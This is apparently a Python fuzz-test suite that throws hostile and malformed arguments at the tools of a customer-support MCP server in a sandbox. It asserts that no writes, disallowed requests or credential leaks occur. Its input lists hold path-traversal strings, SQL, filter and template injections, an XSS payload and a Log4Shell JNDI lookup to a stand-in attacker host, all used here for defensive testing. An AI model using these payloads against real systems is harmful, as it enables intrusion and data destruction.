"""Property tests over every tool's arguments, through a real MCP client session against the sandbox.

Whatever a model sends (arbitrary and hostile strings, huge and negative numbers, unicode and control characters,
path fragments, filter-injection attempts, oversized lists, wrong types, extra keys, forged cursors), each call
must come back as a result: a correct answer or a tool error, never an exception out of the client and never a
traceback. Afterwards the sandbox must have recorded no write and no request off the read-only allow-list, and
no result may carry a credential the server holds.

Hypothesis also draws string constants it finds in our source, the sandbox's credentials among them; the server
rightly echoes an unknown argument's name, so such a draw would read as a leak. Draws that carry a credential,
however disguised, are therefore filtered out: whatever credential a result then holds came from the server.
"""

from __future__ import annotations

import json
import unicodedata
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from datetime import date, datetime, timedelta
from typing import Any
from urllib.parse import urlsplit

import anyio.from_thread
import jsonschema
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from mcp import Client
from mcp.types import CallToolResult

from server.app import build_server
from server.guard import ALLOW_LIST
from server.sandbox.data import Dataset
from server.sandbox.runner import RunningSandbox
from server.settings import Settings
from tests.conftest import SandboxAdmin, sandbox_settings, text_of

JSON = dict[str, Any]
EXAMPLES = 100
FUZZ = settings(
    max_examples=EXAMPLES,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow, HealthCheck.data_too_large],
)

# -- what a hostile or confused model might send ---------------------------------------------------------------

PATH_TRICKS = [
    "../",
    "..",
    "../../api/v2/case/update",
    "..%2F..%2Fcase%2Fupdate",
    "%2F",
    "%2e%2e",
    "/",
    "//",
    "\\",
    "..\\..\\",
    "update",
    "case-numbers",
    "bulk-fetch",
    "a/b",
    "a?x=1",
    "a#frag",
    "a&delete=true",
    "id=1&method=DELETE",
    "http://evil.example/",
    "@evil.example",
]
INJECTIONS = [
    'Open"},{"key":"deleted"',
    'Open"}]},{"type":"OR","filters":[{"key":"deleted","values":[true]',
    "$where",
    '{"$gt": ""}',
    "' OR '1'='1",
    "Open'); DROP TABLE cases;--",
    "${jndi:ldap://evil.example/a}",
    "{{7*7}}",
    "<script>alert(1)</script>",
    "Open\nPending",
    "Open\x00",
    "\u202eOpen",
    "\u200bOpen",
    "Ope\u0301n",
    "𝕆𝕡𝕖𝕟",
    "😀",
    "ｏｐｅｎ",
    " ",
    "",
]
weird_text = st.one_of(
    st.text(max_size=60),
    st.text(alphabet=st.characters(codec="utf-8", categories=["Cc", "Cf", "Zs", "Zl", "Zp"]), max_size=20),
    st.sampled_from(PATH_TRICKS + INJECTIONS),
    st.builds(lambda s, n: s * n, st.sampled_from(["A", "é", "../", "\x00"]), st.integers(100, 5000)),
)
huge_numbers = st.one_of(
    st.integers(min_value=-(2**70), max_value=2**70),
    st.sampled_from([0, -1, 1, 2**31, 2**53, 2**53 + 1, 2**63, -(2**63), 10**30]),
    st.floats(allow_nan=False, allow_infinity=False),
)
scalars = st.one_of(st.none(), st.booleans(), huge_numbers, weird_text)
anything = st.recursive(
    scalars,
    lambda inner: st.lists(inner, max_size=4) | st.dictionaries(st.text(max_size=8), inner, max_size=4),
    max_leaves=8,
)
oversized_lists = st.lists(st.one_of(st.text(max_size=5), st.sampled_from(INJECTIONS)), min_size=21, max_size=300)
extra_keys = st.dictionaries(
    st.one_of(st.text(min_size=1, max_size=20), st.sampled_from(["__proto__", "ctx", "method", "delete", "$where"])),
    anything,
    max_size=2,
)


def mostly(valid: st.SearchStrategy[Any], hostile: st.SearchStrategy[Any]) -> st.SearchStrategy[Any]:
    """Valid values about three times in four, so that many examples get past validation and reach Sprinklr."""
    return st.integers(min_value=0, max_value=3).flatmap(lambda n: hostile if n == 3 else valid)


def words(valid: list[str]) -> st.SearchStrategy[Any]:
    """A picklist argument: real values, or hostile values, oversized lists, or not a list at all."""
    hostile = st.one_of(st.lists(weird_text, min_size=0, max_size=5), oversized_lists, anything)
    return mostly(st.lists(st.sampled_from(valid), min_size=1, max_size=3), hostile)


def ids(real: list[str]) -> st.SearchStrategy[Any]:
    """An id argument: real or plausible ids, or path tricks and wrong types."""
    valid = st.one_of(st.sampled_from(real), st.from_regex(r"[A-Za-z0-9_-]{1,64}", fullmatch=True))
    return mostly(valid, st.one_of(weird_text, anything))


def numbers(real: list[int]) -> st.SearchStrategy[Any]:
    """A number argument: real numbers, or huge and negative numbers, numbers as strings, or wrong types."""
    return mostly(st.sampled_from(real), st.one_of(huge_numbers, huge_numbers.map(str), anything))


def choice(valid: list[str]) -> st.SearchStrategy[Any]:
    """A Literal argument: one of its values, or anything else."""
    return mostly(st.sampled_from(valid), anything)


def dates() -> st.SearchStrategy[Any]:
    """A date argument: real dates and datetimes, or out-of-range ones, or anything."""
    valid = st.one_of(
        st.dates(min_value=date(2024, 1, 1), max_value=date(2026, 12, 31)).map(str),
        st.datetimes(min_value=datetime(2024, 1, 1), max_value=datetime(2026, 12, 31)).map(lambda d: d.isoformat()),
    )
    hostile = st.one_of(
        st.dates().map(str),
        st.sampled_from(["0000-00-00", "9999-12-31T23:59:59Z", "2025-13-01", "yesterday", "2025-05-01T25:00:00"]),
        anything,
    )
    return mostly(valid, hostile)


def windows() -> st.SearchStrategy[JSON]:
    """A message-search window: mostly a real one of up to 100 days, sometimes anything."""
    real = st.builds(
        lambda since, days: {"since": str(since), "until": str(since + timedelta(days=days))},
        st.dates(min_value=date(2024, 6, 1), max_value=date(2026, 6, 1)),
        st.integers(min_value=-3, max_value=100),
    )
    return mostly(real, st.fixed_dictionaries({}, optional={"since": dates(), "until": dates()}))


def arguments(
    optional: dict[str, st.SearchStrategy[Any]], base: st.SearchStrategy[JSON] | None = None
) -> st.SearchStrategy[JSON]:
    """A tool's arguments: `base` (what makes a call plausible), any subset of the others, sometimes unknown keys."""
    known = st.fixed_dictionaries({}, optional=optional)
    extra = mostly(st.just({}), extra_keys)
    return st.builds(lambda b, a, x: {**x, **b, **a}, base if base is not None else st.just({}), known, extra)


# -- one long-lived session for a whole property ---------------------------------------------------------------


@dataclass
class Fuzz:
    """An MCP client session held open by a blocking portal, and what every call's result must satisfy."""

    portal: anyio.from_thread.BlockingPortal
    client: Client
    running: RunningSandbox
    sandbox: SandboxAdmin
    settings: Settings
    output_schemas: dict[str, JSON]
    calls: int = 0
    answers: dict[str, int] = field(default_factory=dict)

    def call(self, tool: str, args: JSON) -> CallToolResult:
        """Call a tool; the result must be free of tracebacks and credentials, and valid when it is an answer."""
        result: CallToolResult = self.portal.call(self.client.call_tool, tool, args)
        self.calls += 1
        text = text_of(result)
        everything = text + json.dumps(result.structured_content or {}, ensure_ascii=False)
        assert "Traceback" not in everything, text
        assert 'File "' not in everything, text
        for secret in self.secrets():
            assert secret not in everything, f"{tool} result holds a credential the server holds; args={args}"
        if result.is_error:
            assert text.strip(), "a tool error must say what went wrong"
        else:
            self.answers[tool] = self.answers.get(tool, 0) + 1
            assert isinstance(result.structured_content, dict), text
            jsonschema.validate(
                result.structured_content, self.output_schemas[tool], cls=jsonschema.Draft202012Validator
            )
        return result

    def secrets(self) -> list[str]:
        """The credentials the server holds: those it was configured with, and the tokens current now."""
        configured = [self.settings.api_key, self.settings.access_token, self.settings.refresh_token]
        held = [secret.get_secret_value() for secret in [*configured, self.settings.api_secret] if secret]
        state = self.running.app_state
        return [*held, state.access_token, state.refresh_token]

    def assert_sandbox_saw_only_allowed_reads(self) -> None:
        """No write reached the sandbox, and every request it logged is on the read-only allow-list."""
        stats = self.sandbox.stats()
        assert stats["writes"] == []
        prefix = urlsplit(self.running.base_url).path.rstrip("/")
        for entry in stats["log"]:
            path: str = entry["path"]
            assert path.startswith(prefix + "/"), entry
            rest = path[len(prefix) :]
            assert any(rule.method == entry["method"] and rule.pattern.match(rest) for rule in ALLOW_LIST), entry


def secrets_of(running: RunningSandbox) -> list[str]:
    """The credentials the sandbox accepts."""
    config = running.config
    return [config.api_key, config.access_token, config.refresh_token, config.api_secret]


def _squash(text: str) -> str:
    """Letters and digits only, compatibility-normalised and case-folded: how a disguised credential still reads."""
    return "".join(ch for ch in unicodedata.normalize("NFKC", text).casefold() if ch.isalnum())


def _texts(value: Any) -> Iterator[str]:
    """Every string in a drawn value, keys included."""
    if isinstance(value, str):
        yield value
    elif isinstance(value, dict):
        for key, item in value.items():
            yield from _texts(key)
            yield from _texts(item)
    elif isinstance(value, list):
        for item in value:
            yield from _texts(item)


def carries_a_credential(args: JSON, secrets: list[str]) -> bool:
    """True when drawn arguments hold a credential anywhere, split across keys and values, or disguised."""
    # The whole dump catches a credential split across a key and its value.
    drawn = [json.dumps(args, ensure_ascii=False), *_texts(args)]
    squashed = [_squash(text) for text in drawn]
    return any(_squash(secret) in text for secret in secrets for text in squashed)


@pytest.fixture
def fuzz(running: RunningSandbox, sandbox: SandboxAdmin) -> Iterator[Fuzz]:
    """A server session that stays open across every example of one property."""
    with anyio.from_thread.start_blocking_portal() as portal:
        settings = sandbox_settings(running)
        client = Client(build_server(settings))
        with portal.wrap_async_context_manager(client) as session:
            listing = portal.call(session.list_tools)
            schemas = {tool.name: tool.output_schema or {} for tool in listing.tools}
            yield Fuzz(portal, session, running, sandbox, settings, schemas)


@pytest.fixture
def data(running: RunningSandbox) -> Dataset:
    """The dataset the sandbox serves."""
    return running.app_state.dataset


def run_property(
    fuzz: Fuzz,
    tool: str,
    strategy: st.SearchStrategy[JSON],
    check: Callable[[JSON, JSON], None],
    min_answers: int = EXAMPLES // 20,
) -> None:
    """Call `tool` with every example `strategy` draws; `check(args, content)` verifies each answer."""

    secrets = [*fuzz.secrets(), *secrets_of(fuzz.running)]

    @FUZZ
    @given(args=strategy.filter(lambda drawn: not carries_a_credential(drawn, secrets)))
    def example(args: JSON) -> None:
        result = fuzz.call(tool, args)
        if not result.is_error:
            assert result.structured_content is not None
            check(args, result.structured_content)

    example()
    assert fuzz.calls >= EXAMPLES
    # A property that only ever met argument errors would prove little: enough examples were real answers.
    assert fuzz.answers.get(tool, 0) >= min_answers, fuzz.answers
    fuzz.assert_sandbox_saw_only_allowed_reads()
    # The session is still usable after every example.
    assert not fuzz.call("quota_status", {}).is_error


def no_check(args: JSON, content: JSON) -> None:
    """Answers are already validated against the output schema."""


# -- the properties, one per tool --------------------------------------------------------------------------------


def test_get_case_by_its_number_with_any_arguments_answers_the_case_asked_for_or_a_tool_error(
    fuzz: Fuzz, data: Dataset
) -> None:
    number = numbers([48213, 48000, 48999, 47999, 49000, 48104])
    strategy = arguments(
        {"detail": choice(["summary", "full"]), "fresh": mostly(st.booleans(), anything)},
        base=mostly(st.fixed_dictionaries({"case_number": number}), st.just({})),
    )

    def check(args: JSON, content: JSON) -> None:
        asked = args["case_number"]
        assert content["case_number"] == (int(asked) if not isinstance(asked, bool) else content["case_number"])
        assert content["case_number"] in data.case_by_number

    run_property(fuzz, "get_case", strategy, check)


def test_get_case_with_any_arguments_answers_the_case_asked_for_or_a_tool_error(fuzz: Fuzz, data: Dataset) -> None:
    real = [case["id"] for case in data.cases[:5]]
    strategy = arguments(
        {"detail": choice(["summary", "full"]), "fresh": mostly(st.booleans(), anything)},
        base=mostly(st.fixed_dictionaries({"case_id": ids(real)}), st.just({})),
    )

    def check(args: JSON, content: JSON) -> None:
        assert content["id"] == args["case_id"]

    run_property(fuzz, "get_case", strategy, check)


def test_get_case_messages_with_any_arguments_answers_that_cases_messages_or_a_tool_error(
    fuzz: Fuzz, data: Dataset
) -> None:
    real_ids = [case["id"] for case in data.cases[:3]]
    one = st.one_of(
        st.fixed_dictionaries({"case_number": numbers([48213, 48001, 47000])}),
        st.fixed_dictionaries({"case_id": ids(real_ids)}),
    )
    both_or_none = st.one_of(
        st.fixed_dictionaries({"case_number": numbers([48213]), "case_id": ids(real_ids)}), st.just({})
    )
    which = mostly(one, both_or_none)
    strategy = arguments(
        {
            "order": choice(["oldest_first", "newest_first"]),
            "offset": numbers([0, 5, 100_000, 100_001]),
            "limit": numbers([1, 3, 100, 101]),
            "detail": choice(["summary", "full"]),
        },
        base=which,
    )

    def check(args: JSON, content: JSON) -> None:
        case = data.case_by_number[content["case_number"]]
        if args.get("case_number") is not None and not isinstance(args["case_number"], bool):
            assert case["caseNumber"] == int(args["case_number"])
        if args.get("case_id") is not None:
            assert case["id"] == args["case_id"]
        message_ids = data.case_message_ids[case["id"]]
        assert content["total_messages"] == len(message_ids)
        assert {m["id"] for m in content["messages"]} <= set(message_ids)

    run_property(fuzz, "get_case_messages", strategy, check)


def test_get_message_with_any_arguments_answers_the_message_asked_for_or_a_tool_error(
    fuzz: Fuzz, data: Dataset
) -> None:
    real = [message["messageId"] for message in data.messages[:5]]
    message_id = mostly(
        st.sampled_from(real), st.one_of(ids(real), st.from_regex(r"[A-Za-z0-9_.:-]{3,300}", fullmatch=True))
    )
    strategy = arguments({}, base=mostly(st.fixed_dictionaries({"message_id": message_id}), st.just({})))

    def check(args: JSON, content: JSON) -> None:
        assert content["message"]["id"] == args["message_id"]

    run_property(fuzz, "get_message", strategy, check)


def test_search_cases_with_any_arguments_answers_matching_live_cases_or_a_tool_error(fuzz: Fuzz, data: Dataset) -> None:
    strategy = arguments(
        {
            "status": words(["Open", "pending", "CLOSED", *INJECTIONS[:3]]),
            "priority": words(["High", "urgent"]),
            "type": words(["Incident"]),
            "brand": words(["Contoso Cloud"]),
            "language": words(["en", "Spanish"]),
            "country": words(["IE", "Austria"]),
            "queue": words(["Billing", "q1"]),
            "assignee": words(["1000370"]),
            "customer_id": ids(["2835239321726550"]),
            "created_after": dates(),
            "created_before": dates(),
            "last_days": numbers([1, 7, 730, 731]),
            "sort": choice(["newest", "oldest", "modified"]),
            "count_by": choice(["status", "priority", "queue"]),
            "offset": numbers([0, 5, 100_000, 100_001]),
            "page_size": numbers([1, 20, 100, 101]),
        },
        base=st.just({}),
    )

    def check(args: JSON, content: JSON) -> None:
        for row in content.get("results", []):
            case = data.case_by_number[row["case_number"]]
            # Whatever was injected into a filter, a deleted case never comes back.
            assert not case["deleted"]
            if isinstance(args.get("status"), list):
                assert case["status"].casefold() in {str(s).strip().casefold() for s in args["status"]}

    run_property(fuzz, "search_cases", strategy, check)


def test_search_messages_with_any_arguments_answers_messages_in_the_window_or_a_tool_error(
    fuzz: Fuzz, data: Dataset
) -> None:
    strategy = arguments(
        {
            "text": mostly(st.sampled_from(["refund", "order", "delivery"]), weird_text),
            "channel": mostly(st.lists(st.sampled_from(["TWITTER", "FACEBOOK"]), min_size=1, max_size=3), anything),
            "sentiment": mostly(st.lists(st.sampled_from(["negative", "positive"]), min_size=1, max_size=2), anything),
            "side": mostly(st.sampled_from(["brand", "customer"]), anything),
            "offset": numbers([0, 3, 100_001]),
            "page_size": numbers([1, 20, 100]),
        },
        base=st.one_of(windows(), windows(), st.fixed_dictionaries({"last_days": numbers([1, 30, 92, 93])})),
    )

    def check(args: JSON, content: JSON) -> None:
        for row in content["results"]:
            assert row["id"] in data.message_by_id

    run_property(fuzz, "search_messages", strategy, check)


def test_lookup_profile_with_any_arguments_answers_that_customer_or_a_tool_error(fuzz: Fuzz, data: Dataset) -> None:
    profile = data.profiles[0]
    identifier = st.one_of(
        st.fixed_dictionaries(
            {"email": mostly(st.just(profile["contact"]["email"]), st.one_of(st.emails(), weird_text))}
        ),
        st.fixed_dictionaries({"phone": mostly(st.just(profile["contact"]["phoneNo"]), weird_text)}),
        st.fixed_dictionaries(
            {"channel_id": ids([profile["channelId"]])}, optional={"channel": choice(["FACEBOOK", "TWITTER"])}
        ),
        st.fixed_dictionaries({"profile_id": ids([profile["id"]])}),
    )
    strategy = arguments(
        {
            "cases": numbers([0, 1, 5, 20, 21]),
        },
        base=mostly(identifier, st.fixed_dictionaries({}, optional={"email": anything, "profile_id": anything})),
    )

    def check(args: JSON, content: JSON) -> None:
        for found in content["profiles"]:
            assert found["id"] in data.profile_by_id
        if args.get("profile_id") is not None:
            assert [p["id"] for p in content["profiles"]] == [args["profile_id"]]
        for row in content.get("cases", []):
            assert row["case_number"] in data.case_by_number

    run_property(fuzz, "lookup_profile", strategy, check)


def test_quota_status_with_any_extra_arguments_answers_or_refuses_them(fuzz: Fuzz) -> None:
    # Hypothesis does not repeat an example, so the one valid call ({}) is answered about once.
    run_property(fuzz, "quota_status", mostly(st.just({}), extra_keys), no_check, min_answers=1)


def test_a_draw_that_carries_a_credential_is_recognised_however_it_is_disguised(running: RunningSandbox) -> None:
    secrets = secrets_of(running)
    secret = running.config.api_secret
    assert carries_a_credential({secret: None}, secrets)  # the draw that once failed this suite
    assert carries_a_credential({"text": f"see {secret.upper()}!"}, secrets)
    assert carries_a_credential({"text": "\u200b".join(secret)}, secrets)
    assert carries_a_credential({"text": secret.replace("a", "\uff41")}, secrets)  # fullwidth a
    assert carries_a_credential({secret[:7]: secret[7:]}, secrets)
    assert not carries_a_credential({"text": "refund", "channel": ["TWITTER"], "since": "2025-05-01"}, secrets)


def test_the_leak_check_fails_on_an_echoed_credential_which_is_why_such_draws_are_filtered(fuzz: Fuzz) -> None:
    # The server names unknown arguments back (rightly): a credential drawn as a name comes back in the result, and
    # the check cannot tell the echo from a leak. So the check can fail, and the filter above keeps such draws out.
    secret = fuzz.running.config.api_secret
    with pytest.raises(AssertionError, match="credential"):
        fuzz.call("search_messages", {secret: None})
    harmless = fuzz.call("search_messages", {"sandbox-api-token": None})
    assert harmless.is_error
    assert "sandbox-api-token" in text_of(harmless)
